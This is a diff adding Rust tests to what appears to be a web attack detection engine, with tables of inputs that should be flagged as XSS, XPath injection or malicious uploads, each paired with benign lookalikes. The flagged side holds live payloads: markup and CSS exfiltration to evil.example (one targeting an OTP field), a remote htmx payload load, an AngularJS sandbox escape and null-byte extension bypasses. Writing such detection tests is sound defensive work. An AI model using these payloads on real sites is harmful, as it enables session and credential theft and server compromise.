@@ -3063,3 +3063,50 @@ fn groovy_processes_php_gadget_configs_path_parameter_suffixes_and_map_functions
         ],
     );
 }
+
+#[test]
+fn markdown_script_links_dangling_markup_css_exfiltration_and_framework_attributes() {
+    table(
+        "xss",
+        FieldKind::BodyValue,
+        &[
+            "[x](JaVaScRiPt:prompt(origin))",
+            "![logo](data:text/html;base64,PHNjcmlwdD4=)",
+            "<img src='//evil.example/log?html=",
+            "<img src=\"https://evil.example/track?h=",
+            "<form id=f action=https://evil.example/steal><button>Continue</button></form><textarea form=f name=d>",
+            "input[name=otp][value^=\"4\"]{background-image:url(https://evil.example/otp?d=4)}",
+            "<div hx-get=\"https://evil.example/payload.html\" hx-trigger=\"load\"></div>",
+            "<input autofocus ng-focus=\"$event.composedPath()|orderBy:'[].constructor.from([1],alert)'\">",
+        ],
+        &[
+            "See [the docs](https://example.com/docs) and [the FAQ](/faq)",
+            "<img src=\"https://cdn.example.com/a.png\" alt=\"Our logo\">",
+            "Use attribute selectors like input[value^=\"a\"] { color: red }",
+            "<div hx-get=\"/api/items\" hx-trigger=\"load\" hx-swap=\"innerHTML\"></div>",
+            "<input ng-model=\"user.name\" ng-focus=\"onFocus()\">",
+            "<form action=\"https://example.com/search\"><input name=q></form>",
+            "There's a pattern in the dark background. Here's a video: <a href=\"https://www.youtube.com/watch?v=",
+        ],
+    );
+    table(
+        "xpath",
+        Q,
+        &[
+            "count(/child::node())",
+            "count(*[1])",
+            "string-length(name(/*[1]))",
+        ],
+        &["FROM logs-* | STATS errors = COUNT(*) BY service.name | SORT errors DESC"],
+    );
+}
+
+#[test]
+fn script_extensions_cut_off_by_a_nul() {
+    table(
+        "upload",
+        FieldKind::BodyValue,
+        &["avatar.php\0.jpg", "shell.aspx\0.png"],
+        &["report.pdf", "photo.php.jpg is not a script here", "a\0b"],
+    );
+}
